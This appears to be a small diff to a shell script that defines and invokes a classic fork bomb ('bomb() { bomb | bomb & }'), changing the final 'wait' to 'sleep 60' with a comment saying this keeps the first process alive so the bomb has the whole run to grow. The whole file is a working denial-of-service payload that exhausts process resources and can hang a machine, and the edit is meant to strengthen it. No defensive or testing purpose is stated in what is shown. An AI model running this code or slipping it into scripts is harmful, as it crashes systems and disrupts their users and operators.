@@ -1,4 +1,6 @@
 # Classic shell fork bomb.
 bomb() { bomb | bomb & }
 bomb
-wait
+# Keep the first process alive so the bomb has the whole run to grow.
+
+sleep 60
